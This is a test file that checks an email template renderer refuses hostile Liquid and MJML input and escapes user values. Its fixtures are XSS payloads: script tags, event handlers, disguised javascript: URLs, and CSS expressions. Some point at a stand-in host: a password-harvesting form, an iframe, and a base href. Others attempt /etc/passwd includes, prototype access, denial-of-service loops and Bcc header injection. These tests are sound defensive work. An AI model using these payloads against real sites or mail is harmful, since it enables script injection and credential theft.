import { describe, expect, it } from 'vitest';
import { TemplateFault } from './liquid.ts';
import { checkNames, render } from './render.ts';
import type { Values, Words } from './template.ts';

const mail = { sender: { name: 'Blue Kettle', signature: null, timeZone: 'UTC' }, language: 'en' };
const html = (source: string, rest: Partial<Words> = {}): Words => ({ subject: 'Hello', format: 'HTML', source, plain: null, ...rest });
const mjml = (source: string): Words => html(`<mj-section><mj-column>${source}</mj-column></mj-section>`, { format: 'MJML' });

async function faultOf(words: Words, values: Values = {}): Promise<string> {
  try {
    return `sent: ${(await render(words, values, mail)).html}`;
  } catch (error) {
    if (error instanceof TemplateFault) return error.code;
    throw error;
  }
}

const hostile: readonly (readonly [string, Words, Values?])[] = [
  ['a script', html('<p>x</p><script>alert(1)</script>')],
  ['a script in capitals', html('<ScRiPt src=//evil.example></ScRiPt>')],
  ['a script put together by Liquid', html('<{{ "scr" | append: "ipt" }}>alert(1)</{{ "script" }}>')],
  ['a name put together by Liquid', html('<s{{ "cript" }}>alert(1)</script>')],
  ['a comment that ends elsewhere', html('<!--><script>alert(1)</script>-->')],
  ['a comment put together by Liquid', html('<{{ "!--" }}><p title=" --> <img src=x onerror=alert(1)> <!-- ">')],
  ['a style', html('<style>body { background: url(https://evil.example) }</style>')],
  ['a style in MJML', mjml('<mj-text><style>p { color: red }</style></mj-text>')],
  ['a style of MJML', mjml('<mj-style>p { color: red }</mj-style>')],
  ['a handler of events', html('<img src="https://a.example/x.png" onerror="alert(1)">')],
  ['a handler after a quoted angle', html('<img alt=">" onerror=alert(1)>')],
  ['a handler behind a slash', html('<img/src="https://a.example/x.png"/onload=alert(1)>')],
  ['a handler named by a value', html('<img {{ x }}=alert(1)>'), { x: 'onerror' }],
  ['javascript', html('<a href="javascript:alert(1)">x</a>')],
  ['javascript in references', html('<a href="&#106;ava&#x73;cript&colon;alert(1)">x</a>')],
  ['javascript with white space', html('<a href=" java\tscript:alert(1)">x</a>')],
  ['javascript without quotes', html('<a href=javascript:alert(1)>x</a>')],
  ['javascript of a value', html('<a href="{{ link }}">x</a>'), { link: 'javascript:alert(1)' }],
  ['javascript in two parts', html('<a href="java{{ x }}">x</a>'), { x: 'script:alert(1)' }],
  ['data', html('<img src="data:image/svg+xml;base64,PHN2Zz4=">')],
  ['a style that loads', html('<p style="background: url(http://evil.example/x)">x</p>')],
  ['a style that runs', html('<p style="width: expr/**/ession(alert(1))">x</p>')],
  ['a form', html('<form action="https://evil.example"><input name="password"></form>')],
  ['a frame', html('<iframe src="https://evil.example"></iframe>')],
  ['a refresh', html('<meta http-equiv="refresh" content="0; url=https://evil.example">')],
  ['a base', html('<base href="https://evil.example">')],
  ['a drawing', html('<svg onload=alert(1)></svg>')],
  ['an attribute of MJML that ends its own', mjml(`<mj-text css-class='x"><img src=x onerror=alert(1)>'>x</mj-text>`)],
  ['an attribute of MJML that ends a comment', mjml(`<mj-text css-class="x --> <b>">x</mj-text>`)],
  ['a file of MJML', mjml('<mj-include path="/etc/passwd" />')],
  ['a head of MJML', { ...mjml(''), source: '<mj-head><mj-preview>x</mj-preview></mj-head>' }],
];

describe('a hostile template', () => {
  it.each(hostile.map(([name, words, values]) => ({ name, words, values })))('is refused with $name', async ({ words, values }) => {
    expect(await faultOf(words, values)).toBe('UNSAFE');
  });

  it('reaches no file and no other template', async () => {
    for (const tag of ['include', 'render', 'layout']) expect(await faultOf(html(`{% ${tag} "/etc/passwd" %}`))).toBe('SYNTAX');
    expect(await faultOf(html('{% liquid echo "x" %}'))).toBe('SYNTAX');
  });

  it('reaches no property but the values’ own', async () => {
    const values = { order: { number: '1' } };
    for (const path of ['order.constructor', 'order.__proto__', 'order.constructor.constructor', 'order.toString', 'order["constructor"]'])
      expect(await faultOf(html(`<p>{{ ${path} }}</p>`), values)).toBe('sent: <p></p>');
    expect(await faultOf(html('<p>{{ 1 | valueOf }}</p>'))).toBe('SYNTAX');
    expect(await faultOf(html('<p>{{ order | inspect }}</p>'), values)).toBe('SYNTAX');
    expect(await faultOf(html('<p>{{ "<b>" | raw }}</p>'))).toBe('SYNTAX');
  });

  it('can’t take all the time, memory or text there is', async () => {
    expect(await faultOf(html('{% for i in (1..100000000) %}x{% endfor %}'))).toBe('TOO_MUCH');
    expect(await faultOf(html('{% for i in (1..1000) %}{% for j in (1..1000) %}x{% endfor %}{% endfor %}'))).toBe('TOO_MUCH');
    expect(
      await faultOf(html(`{% assign x = "${'x'.repeat(1_000)}" %}{% for i in (1..30) %}{% assign x = x | append: x %}{% endfor %}{{ x }}`)),
    ).toBe('TOO_MUCH');
    expect(await faultOf(html('x'.repeat(100_001)))).toBe('TOO_MUCH');
  });

  it('has no subject of two lines, of none, or without end', async () => {
    const subjects = ['{{ x }}', ' ', 'x\r\nBcc: evil@example.com', 'x'.repeat(501)];
    for (const subject of subjects)
      expect(await faultOf(html('<p>x</p>', { subject }), { x: 'a\r\nBcc: evil@example.com' })).toBe('SUBJECT');
  });

  it('escapes what it is given', async () => {
    const name = `<script>alert('1')</script> & "Co"`;
    const {
      subject,
      html: out,
      text,
    } = await render(html('<p title="{{ name }}">{{ name }}</p>', { subject: 'For {{ name }}', plain: '{{ name }}' }), { name }, mail);
    const escaped = '&lt;script&gt;alert(&#39;1&#39;)&lt;/script&gt; &amp; &#34;Co&#34;';
    expect(out).toBe(`<p title="${escaped}">${escaped}</p>`);
    expect([subject, text]).toEqual([`For ${name}`, name]);
  });

  it('is told which variable it does not know', async () => {
    await expect(
      checkNames(html('<p>{{ nubmer }} {{ sender.name }} {{ number }}</p>'), [
        { name: 'number', description: '', required: true, sample: '1' },
      ]),
    ).rejects.toThrow('Not a variable of this template: nubmer');
  });
});

describe('a template', () => {
  it('writes amounts and times as its language and the sender’s time zone have it', async () => {
    const words = html('<p>{{ total | money }} {{ at | day }} {{ at | moment }} {{ none | money }}{{ none | day }}</p>');
    const values = { total: { amount: '449500', currency: 'EUR' }, at: new Date('2026-07-01T22:30:00Z') };
    const sender = { ...mail.sender, timeZone: 'Europe/Berlin' };
    const { text } = await render(words, values, { sender, language: 'de' });
    expect(text.replaceAll('\u00a0', ' ')).toBe('4.495,00 € 2. Juli 2026 2. Juli 2026 um 00:30');
  });
});
